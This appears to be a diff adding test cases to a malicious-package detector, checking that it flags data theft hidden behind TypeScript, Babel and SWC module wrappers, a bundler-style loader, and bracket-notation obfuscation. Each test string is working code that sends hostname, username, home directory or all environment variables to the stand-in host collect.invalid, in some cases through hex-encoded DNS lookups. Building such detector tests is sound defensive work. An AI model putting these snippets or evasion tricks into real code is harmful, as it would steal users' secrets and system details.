@@ -111,3 +111,55 @@ describe('what is loaded by a name that is worked out runs when it is loaded', (
     });
   });
 });
+
+describe('a module is the module, whatever a compiler wraps it in', () => {
+  const TELLS = (os: string, https: string): string =>
+    `const all = JSON.stringify([${os}.hostname(), ${os}.userInfo().username, ${os}.homedir()]); const r = ${https}.request({ hostname: 'collect.invalid', method: 'POST' }); r.end(all);`;
+
+  test.each([
+    [
+      'the helpers of TypeScript',
+      `const t = require('tslib'); const os = t.__importStar(require('os')), https = t.__importDefault(require('https')); ${TELLS('os', 'https.default')}`,
+    ],
+    [
+      'those of Babel',
+      `var _i = require('@babel/runtime/helpers/interopRequireWildcard'); var os = (0, _i.default)(require('os')), https = _i(require('https')); ${TELLS('os', 'https')}`,
+    ],
+    [
+      'those of SWC',
+      `const _i = require('@swc/helpers/_/_interop_require_wildcard'); const os = _i._(require('os')), https = _i._(require('https')); ${TELLS('os', 'https')}`,
+    ],
+    [
+      'a table of modules whose loader asks for what it does not hold, or throws',
+      `(function outer(table, done, first) {
+        function load(id, again) {
+          if (!done[id]) {
+            if (!table[id]) { var own = typeof require == 'function' && require; if (!again && own) return own(id, !0); throw new Error(id); }
+            var made = done[id] = { exports: {} };
+            table[id][0].call(made.exports, function (name) { var other = table[id][1][name]; return load(other ? other : name); }, made, made.exports, outer, table, done, first);
+          }
+          return done[id].exports;
+        }
+        for (var i = 0; i < first.length; i++) load(first[i]);
+        return load;
+      })({ a: [function (need, module, exports) { const os = need('os'), https = need('https'); ${TELLS('os', 'https')} }, {}] }, {}, ['a']);`,
+    ],
+  ])('%s', async (_, code) => {
+    expect(await found(code)).toContain('sends-system-information');
+  });
+});
+
+describe('brackets around a name that is written are a dot', () => {
+  test.each([
+    [
+      'where a callback is handed over',
+      `let out = ''; JSON['stringify'](process['env'])['split']('')['forEach'](part => { out = out + part['charCodeAt'](0)['toString'](16); }); require('dns')['lookup'](out + '.collect.invalid', () => {});`,
+    ],
+    [
+      'where something is put into a list',
+      `const all = []; all['push'](process['env']); require('https')['request']({ host: 'collect.invalid' })['end'](JSON['stringify'](all));`,
+    ],
+  ])('%s', async (_, code) => {
+    expect(await found(code)).toContain('sends-environment');
+  });
+});
